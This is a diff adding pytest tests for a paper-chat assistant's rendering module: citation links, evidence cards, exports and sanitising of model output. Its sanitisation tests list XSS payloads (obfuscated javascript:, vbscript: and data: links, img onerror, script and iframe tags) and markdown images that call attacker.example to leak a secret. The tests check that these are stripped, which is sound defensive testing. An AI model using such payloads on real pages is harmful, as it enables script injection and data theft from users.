@@ -1,0 +1,219 @@
+"""ui.render: pure Answer -> Markdown / HTML functions, on hand-made Answers."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from assistant.types import Citation, IngestIssue, Record
+from ui import render
+from ui_helpers import hand_answer
+
+
+# -- chat markdown ---------------------------------------------------------------------------------
+def test_markers_link_to_evidence_cards_and_sources_are_listed():
+    a = hand_answer()
+    md = render.answer_markdown(a)
+    assert '[\\[1\\]](#pc-ev-ans-1-1 "Alpha method")' in md
+    assert "(#pc-ev-ans-1-2 " in md
+    assert "**Sources**" in md
+    assert "- [\\[1\\]](#pc-ev-ans-1-1) Alpha method (p-one)" in md
+    # the label from the corpus is escaped, never raw HTML
+    assert "<b>" not in md and "Gamma &lt;b&gt;bold&lt;/b&gt;" in md
+    # every anchor in the markdown exists in the evidence panel
+    html = render.evidence_html(a)
+    for anchor in set(re.findall(r"\(#(pc-ev-[\w-]+)", md)):
+        assert f'id="{anchor}"' in html
+
+
+def test_plain_form_for_the_api():
+    md = render.answer_markdown(hand_answer(), links=False)
+    assert "Alpha beats Beta by 3 points [1]." in md
+    assert "- [1] Alpha method (p-one)" in md
+    assert "- [2] Gamma &lt;b&gt;bold&lt;/b&gt; (p-two)" in md
+    assert "#pc-ev" not in md
+
+
+def test_marker_without_citation_is_not_linked():
+    md = render.answer_markdown(hand_answer(answer="Alpha [1]. Nothing cites this [7]."))
+    assert "#pc-ev-ans-1-1" in md
+    assert "#pc-ev-ans-1-7" not in md and "\\[7\\]" in md
+
+
+def test_grouped_markers_each_link():
+    md = render.link_markers("Both agree [1, 2].", hand_answer())
+    assert "(#pc-ev-ans-1-1 " in md and "(#pc-ev-ans-1-2 " in md
+
+
+def test_standalone_query_shown_only_for_rewritten_followups():
+    same = render.answer_markdown(hand_answer())
+    assert "Searched for" not in same
+    rewritten = render.answer_markdown(
+        hand_answer(question="Which datasets did they use?", standalone_query="Which datasets did Alpha use?")
+    )
+    assert "_Searched for:_ Which datasets did Alpha use?" in rewritten
+
+
+def test_incomplete_and_unsupported_are_announced():
+    md = render.answer_markdown(hand_answer(incomplete=True, unsupported=("Alpha cures cancer [1].",)))
+    assert "incomplete" in md
+    assert "1 sentence removed" in md
+
+
+def test_comparison_table_passes_through():
+    table = (
+        "| Paper | Method | Data |\n|---|---|---|\n"
+        "| **Alpha** [1] | We propose Alpha [1] | not reported in the abstract |\n"
+        "| **Gamma** [2] | not reported in the abstract | Gamma uses ImageNet [2] |"
+    )
+    md = render.answer_markdown(hand_answer(answer=table, kind="compare"))
+    lines = md.splitlines()
+    assert lines[0] == "| Paper | Method | Data |" and lines[1] == "|---|---|---|"
+    assert lines[2].startswith("| **Alpha** [\\[1\\]](#pc-ev-ans-1-1") and lines[2].endswith("| not reported in the abstract |")
+    assert lines[3].count("|") == 4  # no cell boundary added or lost
+    plain = render.answer_markdown(hand_answer(answer=table, kind="compare"), links=False)
+    assert plain.startswith(table)
+
+
+def test_list_answers_get_their_count():
+    listed = "1. **Alpha** — beats Beta [1]\n2. **Gamma** — uses ImageNet [2]"
+    md = render.answer_markdown(hand_answer(answer=listed, kind="list"), links=False)
+    assert md.startswith("**2 papers found:**")
+    assert "1. **Alpha**" in md and "2. **Gamma**" in md
+    # a count already stated is not repeated
+    stated = "**2 papers** in the indexed abstracts match “x”:\n\n" + listed
+    md2 = render.answer_markdown(hand_answer(answer=stated, kind="list"), links=False)
+    assert md2.count("2 paper") == 1
+    # prose becomes a list built from the citations
+    md3 = render.answer_markdown(hand_answer(answer="Alpha [1] and Gamma [2] do.", kind="list"), links=False)
+    assert md3.startswith("**2 papers found:**") and "- Alpha method [1]" in md3
+
+
+# -- sanitising model output ---------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    "evil",
+    [
+        "[click](javascript:alert(1))",
+        "[click](JaVaScRiPt:alert(1))",
+        "[click](java\tscript:alert(1))",
+        "[click](&#106;avascript:alert(1))",
+        "[click](javascript\\:alert(1))",
+        "[click]( <javascript:alert(1)> )",
+        "[click](data:text/html;base64,PHNjcmlwdD4=)",
+        "[click](vbscript:msgbox)",
+        "[click][r]\n\n[r]: javascript:alert(1)",
+        "[click][r]\n\n[r]:\n   javascript:alert(1)",
+    ],
+)
+def test_unsafe_links_lose_their_target(evil):
+    out = render.safe_markdown(evil)
+    low = re.sub(r"\s", "", out.lower())
+    assert "javascript:" not in low and "vbscript:" not in low and "data:text" not in low
+    assert "&#106;avascript" not in low
+    assert "click" in out
+
+
+def test_images_are_never_loaded_and_html_is_inert():
+    out = render.safe_markdown(
+        "See ![x](https://attacker.example/?q=secret) and ![y][img]\n\n[img]: https://attacker.example/p.png\n"
+        '<img src=x onerror="window.__xss=1"> <script>alert(1)</script> <iframe src="https://a.example">'
+    )
+    assert "![" not in out.replace("!\\[", "")
+    assert "attacker.example" not in out
+    assert "<img" not in out and "<script" not in out and "<iframe" not in out
+    assert "&lt;img" in out
+
+
+def test_safe_links_survive():
+    out = render.safe_markdown("Read [the paper](https://example.org/a_(b)) or [mail](mailto:a@b.c).")
+    assert "](https://example.org/a_(b))" in out and "](mailto:a@b.c)" in out
+
+
+# -- evidence panel -----------------------------------------------------------------------------------
+def test_evidence_cards_highlight_support_and_escape_abstracts():
+    a = hand_answer(unsupported=("Alpha cures cancer [1].",), notes=("1 sentence removed: unsupported.",))
+    html = render.evidence_html(a)
+    assert '<article class="pc-card" id="pc-ev-ans-1-1">' in html
+    assert "<mark>Alpha beats Beta by 3 points.</mark>" in html
+    assert "We propose Alpha. <mark>" in html  # unsupported parts of the abstract stay unmarked
+    assert "<mark>Gamma uses ImageNet.</mark>" in html
+    # abstract and label text is escaped
+    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+    assert "<b>" not in html and "Gamma &lt;b&gt;bold&lt;/b&gt;" in html
+    # metadata and scores
+    assert "2023" in html and "Ann Lee, Bo Chen, Cy Park et al." in html and "source a.jsonl:4" in html
+    assert "dense 0.81 (#1)" in html and "bm25 7.5 (#2)" in html
+    # failed verification is shown as such
+    assert "Failed verification" in html and "<s>Alpha cures cancer [1].</s>" in html
+    assert "1 sentence removed: unsupported." in html
+    # retrieved but not cited
+    assert "Also retrieved, not cited (1)" in html and "p-three" in html
+
+
+def test_highlight_by_sentence_text_when_ids_are_missing():
+    text = "First one. Second & <last> one."
+    out = render.highlight_abstract(text, (), ("Second & <last> one.",))
+    assert out == "First one. <mark>Second &amp; &lt;last&gt; one.</mark>"
+    assert render.highlight_abstract(text, (0,), ()) == "<mark>First one.</mark> Second &amp; &lt;last&gt; one."
+
+
+def test_abstained_answer_has_no_cards():
+    a = hand_answer(answer="The indexed abstracts do not answer this question.", citations=(), abstained=True,
+                    kind="abstain")
+    html = render.evidence_html(a)
+    assert "pc-card" not in html and "nothing is cited" in html
+    assert "**Sources**" not in render.answer_markdown(a)
+
+
+def test_focus_lists_papers_in_order_escaped():
+    html = render.focus_html(["p-b", "p-a"], {"p-a": "Alpha", "p-b": "<i>B</i>"})
+    assert html.index("&lt;i&gt;B&lt;/i&gt;") < html.index("Alpha")
+    assert "<i>" not in html
+    assert "No papers in focus" in render.focus_html([])
+
+
+def test_progress_shows_stage_and_sanitised_text():
+    assert "Searching the abstracts" in render.progress_markdown("", "retrieving")
+    out = render.progress_markdown("Alpha <img src=x> [x](javascript:1)", "generating")
+    assert "&lt;img" in out and "javascript" not in out and "Writing the answer" in out
+
+
+# -- corpus, export, errors --------------------------------------------------------------------------------
+def test_abstract_html_escapes():
+    r = Record("p-x", "<img src=x onerror=alert(1)> text", label="L <u>", year=2020, authors=("A",))
+    html = render.abstract_html(r)
+    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html and "L &lt;u&gt;" in html
+    assert "No abstract with id <code>&lt;b&gt;</code>" in render.abstract_html(None, "<b>")
+
+
+def test_ingest_report_lists_each_problem():
+    md = render.ingest_markdown([
+        render.FileOutcome("good.jsonl", summary="2 added", issues=(IngestIssue("good.jsonl", 3, "no abstract text", "k<1>"),)),
+        render.FileOutcome("bad.pdf", error="not accepted"),
+    ])
+    assert "**good.jsonl**: 2 added" in md and "line 3 (key k&lt;1&gt;): no abstract text" in md
+    assert "**bad.pdf**: ✗ not accepted" in md
+
+
+def test_bibtex_and_markdown_export():
+    a = hand_answer()
+    bib = render.bibtex(a)
+    assert bib.count("@misc{") == 2
+    assert "author = {Ann Lee and Bo Chen and Cy Park and Dee Kay}" in bib
+    assert "year = {2023}" in bib and "Lee2023Alpha" in bib
+    assert "paper\\_id p-one" in bib
+    weird = hand_answer(citations=(Citation(1, "p-w", "T", "x"),), retrieved=())
+    bib2 = render.bibtex(weird, {"p-w": Record("p-w", "x", title="50% of {A} & B_c", year=2020)})
+    assert "title = {{50\\% of \\{A\\} \\& B\\_c}}" in bib2
+    md = render.export_markdown(a)
+    assert md.startswith("# How good is Alpha?")
+    assert "## Sources" in md and "### [1] Alpha method" in md and "> Alpha beats Beta by 3 points." in md
+    assert "<script>" not in md
+
+
+def test_error_text_has_no_paths():
+    text = render.safe_error_text("No such file: /tmp/gradio/abc123/secret/data.jsonl", "The index in /home/u/.local/share/paperchat is empty.")
+    assert "/tmp" not in text and "/home" not in text
+    assert "data.jsonl" in text
+    assert render.safe_error_text("<b>x</b>") == "&lt;b&gt;x&lt;/b&gt;"
